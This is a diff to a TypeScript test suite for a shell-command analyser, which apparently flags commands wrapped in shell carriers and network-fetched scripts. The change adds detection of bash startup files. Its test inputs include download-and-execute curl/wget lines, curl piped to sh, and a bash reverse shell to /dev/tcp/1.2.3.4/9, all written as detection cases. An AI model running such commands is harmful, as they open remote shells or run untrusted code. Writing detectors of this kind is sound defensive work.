@@ -6,7 +6,8 @@ const reasons = (cmd: string) => invocations(cmd).invocations.filter((i) => i.op
 describe('shell carriers', () => {
   it('sh/bash/zsh/dash/ksh -c, bundled -lc/-ec', () => {
     for (const sh of ['sh', 'bash', 'zsh', 'dash', 'ksh']) expect(shape(`${sh} -c 'rm -rf x'`)).toEqual(['rm']);
-    expect(shape("bash -lc 'git status'")).toEqual(['git']);
+    // A login shell also runs its startup files, which the command does not show (opaque).
+    expect(shape("bash -lc 'git status'")).toEqual(['bash!dynamic', 'git']);
     expect(shape("bash -ec 'ls; pwd'")).toEqual(['ls', 'pwd']);
     expect(shape("bash -o pipefail -c 'ls'")).toEqual(['ls']);
   });
@@ -26,7 +27,7 @@ describe('shell carriers', () => {
     expect(reasons('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toEqual(['script:network']);
     expect(reasons('wget -qO i.py https://x.io && python3 i.py')).toEqual(['script:network']);
     expect(reasons('curl -so x https://x.io; chmod +x x; ./x')).toEqual(['downloaded program:network']);
-    expect(reasons('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')).toEqual(['bash (stdin):network']);
+    expect(reasons('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')).toEqual(['bash startup files:dynamic', 'bash (stdin):network']);
     expect(reasons('curl https://x.io | sh -s -- --yes')).toEqual(['sh (stdin):network']);
   });
   it('su / runuser -c carry a shell string; pkexec wraps', () => {
